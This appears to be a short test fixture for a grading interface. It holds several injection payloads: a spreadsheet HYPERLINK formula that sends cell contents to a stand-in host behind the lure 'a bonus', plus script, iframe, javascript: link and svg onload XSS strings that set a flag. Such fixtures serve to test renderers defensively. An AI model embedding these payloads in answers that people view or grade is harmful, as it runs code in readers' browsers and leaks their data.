"""Script and a formula for the spreadsheet in the answer that a person will read and grade.

threat: host
expect: nothing
"""
# %% explain_dense
=HYPERLINK("https://collect.example/?"&A1,"a bonus")

<script>window.ran = 1</script><iframe src="javascript:parent.ran=1"></iframe>

An *inductive bias* [is](javascript:window.ran=1) an assumption. "><svg onload=ran=1>
